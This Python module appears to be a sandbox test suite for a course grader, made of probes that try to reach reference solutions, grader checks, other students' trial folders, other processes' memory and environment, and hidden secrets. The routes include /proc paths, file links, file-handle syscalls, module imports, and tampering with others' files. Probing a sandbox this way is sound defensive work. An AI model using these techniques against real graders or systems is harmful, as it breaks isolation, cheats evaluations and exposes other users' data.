"""What is not its own to read: solutions, checks, secrets, other students, other processes."""

import ctypes
import gc
import glob
import importlib
import os
import stat
import sys
import tempfile
from pathlib import Path

from kit import TARGETS, attempt, gained, libc, others, steal, syscall, trick

FILES = TARGETS.get("files", ())
FOLDERS = TARGETS.get("folders", ())
REPOSITORY = TARGETS.get("repository", "/")


@trick()
def solutions():
    """Look for the reference solution, the checks and the scenarios, and print what is found."""
    for path in FILES:
        steal(path)
    for folder in FOLDERS:
        with attempt():
            names = os.listdir(folder)
            gained(f"lists folders that are not its own: {Path(folder).name}, {len(names)} entries")
    for name in (
        "solutions/obstacle_avoidance/obstacle_avoidance_agent.py",
        "grader/exercises/obstacle_avoidance/contract.py",
        "grader/exercises/obstacle_avoidance/scenarios/avoid_zones.toml",
        "README.md",
    ):
        steal(f"{REPOSITORY}/{name}")


@trick()
def roundabout():
    """Take other ways to the same files: through /proc, links, openat, handles without rights."""
    doors = [f"/proc/{pid}/{way}" for pid in ("self", os.getppid(), TARGETS.get("judge", 1), 1)
             for way in ("root", "cwd/../../../../..", "task/self/root")]  # fmt: skip
    doors += ["/proc/thread-self/root", "../" * 20]
    doors += [f"/proc/self/fd/{fd}/../../../../.." for fd in range(256)]
    for path in FILES:
        for door in doors:
            steal(f"{door}{path}")
        for name, make in (("soft", os.symlink), ("hard", os.link)):
            with attempt():
                make(path, name)
                steal(name)
                os.unlink(name)
        with attempt():
            root = os.open("/", os.O_PATH)
            steal(f"/proc/self/fd/{os.open(path.lstrip('/'), os.O_RDONLY, dir_fd=root)}")
        with attempt():
            handle = os.open(path, os.O_PATH)
            steal(f"/proc/self/fd/{handle}")
            steal(f"/dev/fd/{handle}")


@trick()
def imports():
    """Import the reference, the checks and the simulation, as if they lay on the path."""
    sys.path[:0] = [REPOSITORY, *FOLDERS]
    checks = "grader.exercises.obstacle_avoidance.contract"
    for name in (checks, "sim.scenario", "reference_solution"):
        with attempt():
            sys.modules.pop("grader", None)
            gained(f"imports what is not its own: {importlib.import_module(name).__name__}")


@trick()
def listing_by_watching():
    """Find out names in closed folders without reading them: inotify, name_to_handle_at."""
    watcher = libc.inotify_init()
    for folder in FOLDERS:
        if libc.inotify_add_watch(watcher, folder.encode(), ctypes.c_uint32(0xFFF)) >= 0:
            gained("watches a folder of others")
        handle = ctypes.create_string_buffer(160)
        handle[0:4] = (128).to_bytes(4, "little")
        mount = ctypes.c_int()
        if syscall(303, -100, folder.encode(), handle, ctypes.byref(mount), 0) == 0:
            gained("uses calls of the kernel that no node needs: name_to_handle_at")
            with attempt():
                found = syscall(304, os.open("/", os.O_RDONLY), handle, 0)
                if found >= 0:
                    steal(f"/proc/self/fd/{found}")


@trick()
def metadata():
    """Change what a list of rules for reading and writing forgets: owners, modes, times."""

    def state(path):
        status = os.stat(path)
        return status.st_mode, status.st_mtime, status.st_size

    for path in FILES:
        for change in (
            lambda file: os.chmod(file, 0o666),
            lambda file: os.utime(file, (1, 1)),
            lambda file: os.chown(file, os.getuid(), os.getgid()),
            lambda file: os.setxattr(file, "user.mark", b"x"),
            lambda file: os.truncate(file, 0),
            lambda file: os.rename(file, file + "~"),
            os.unlink,
        ):
            with attempt():
                before = state(path)
                change(path)
                if not os.path.exists(path) or state(path) != before:
                    gained(f"changes files of others: {stat.filemode(before[0])}")


@trick()
def neighbours():
    """Look for the folders of other students' trials that run at the same time."""
    own = os.getcwd()
    for place in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.dirname(own)):
        with attempt():
            for name in os.listdir(place):
                found = os.path.join(place, name)
                if found != own and "course-" in name and os.path.isdir(found):
                    for file in glob.glob(f"{found}/*.py"):
                        steal(file)
                    gained("lists folders that are not its own: of another trial")


@trick()
def other_processes():
    """Read environment, memory and descriptors of the fork server, the judge and a bystander."""
    for pid in others():
        for name in ("environ", "maps", "stack", "cmdline", "mounts", "mem"):
            steal(f"/proc/{pid}/{name}", "about other processes")
        with attempt(), open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(0x400000)
            gained(f"opens the memory of other processes: {len(memory.read(1))}")
        with attempt():
            count = len(os.listdir(f"/proc/{pid}/fd"))
            gained(f"reads about other processes: descriptors: {count}")
        for root in ("root", "cwd"):
            for path in FILES:
                steal(f"/proc/{pid}/{root}{path}")


@trick()
def own_secrets():
    """Look in its own process for what the judge left: environment, mounts, descriptors, memory."""
    secret = TARGETS.get("word", "no such word")
    if any(secret in value for value in os.environ.values()):
        gained("finds the secret in its environment")
    for name in ("mountinfo", "mounts", "maps", "environ", "cgroup", "status", "limits", "auxv"):
        with attempt(), open(f"/proc/self/{name}", errors="replace") as file:
            text = file.read()
            if f"{REPOSITORY}/solutions" in text or secret in text:
                gained(f"prints what is secret: in {name}")
    for fd in range(3, 256):
        with attempt():
            where = os.readlink(f"/proc/self/fd/{fd}")
            if not where.startswith("pipe:") and "/dev/" not in where and "course-" not in where:
                gained(f"has a descriptor of {where}")
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Scenario", "Recording", "Simulation", "Exercise"):
            gained("finds what the judge knows in its memory")
